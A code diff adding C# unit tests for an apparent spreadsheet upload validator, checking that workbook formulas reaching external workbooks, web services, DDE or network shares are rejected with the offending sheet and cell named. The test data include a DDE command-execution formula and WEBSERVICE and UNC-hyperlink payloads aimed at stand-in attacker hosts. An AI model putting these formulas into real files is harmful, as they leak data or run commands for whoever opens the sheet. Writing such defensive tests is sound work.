@@ -304,6 +304,43 @@ public class HostileFileTests
         Assert.Equal("file.embedded_object", Rejected(Zip(parts)).Code);
     }
 
+    [Theory]
+    [InlineData("[1]Sheet1!A1", "其他工作簿")]
+    [InlineData("SUM('C:\\data\\[book.xlsx]Sheet 1'!A1:A3)", "其他工作簿")]
+    [InlineData("[2]!Rate*2", "其他工作簿")]
+    [InlineData("_xlfn.WEBSERVICE(\"http://evil.example/\"&A2)", "WEBSERVICE")]
+    [InlineData("_xlfn.FILTERXML(B1,\"//a\")", "FILTERXML")]
+    [InlineData("cmd|' /c calc'!A0", "DDE")]
+    [InlineData("'\\\\host\\share\\[a.xlsx]S'!A1", "网络共享")]
+    [InlineData("HYPERLINK(\"\\\\attacker.example\\share\\x.exe\",\"点此\")", "网络共享")]
+    [InlineData("hyperlink(\"FILE:///C:/Windows/System32/calc.exe\",\"点此\")", "HYPERLINK")]
+    public void Formulas_reaching_outside_are_refused_naming_the_sheet_and_cell(string formula, string what)
+    {
+        // In a sheet the return does not use: Excel opens every sheet.
+        var parts = Workbook([("S", "sheet1.xml", "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>"),
+            ("计算", "sheet2.xml", $"<row r=\"7\"><c r=\"C7\"><f>{System.Security.SecurityElement.Escape(formula)}</f><v>0</v></c></row>")]);
+        var e = Rejected(Zip(parts));
+        Assert.Equal("file.external_formula", e.Code);
+        Assert.Contains("工作表“计算”单元格C7", e.Message);
+        Assert.Contains(what, e.Message);
+    }
+
+    [Fact]
+    public void A_defined_name_reaching_outside_is_refused_and_ordinary_formulas_are_not()
+    {
+        var parts = ValidBook();
+        parts["xl/workbook.xml"] = parts["xl/workbook.xml"].Replace("</workbook>", "<definedNames><definedName name=\"汇率\">_xlfn.WEBSERVICE(\"http://evil.example/\")</definedName></definedNames></workbook>");
+        var e = Rejected(Zip(parts));
+        Assert.Equal("file.external_formula", e.Code);
+        Assert.Contains("名称“汇率”", e.Message);
+
+        // Formulas that stay inside the file: ranges, other sheets, tables' columns, a web hyperlink, text that mentions a pipe or a path.
+        var formulas = new[] { "SUM(A1:A3)", "'其他 表'!B2*2", "SUM(表1[金额])&Sheet2!A1", "表1[[#This Row],[数量]]", "HYPERLINK(\"https://www.miit.gov.cn/\",\"工信部\")",
+            "\"a|b\"&\"[1]S!A1\"", "IF(A1>0,\"是\",\"否\")" };
+        var sheet = string.Concat(formulas.Select((f, i) => $"<row r=\"{i + 1}\"><c r=\"A{i + 1}\"><f>{System.Security.SecurityElement.Escape(f)}</f><v>0</v></c></row>"));
+        Assert.Equal(formulas.Length, Rows(Zip(Workbook([("S", "sheet1.xml", sheet)]))).Count);
+    }
+
     [Fact]
     public void External_links_and_data_connections_are_refused_but_hyperlinks_in_cells_are_not()
     {
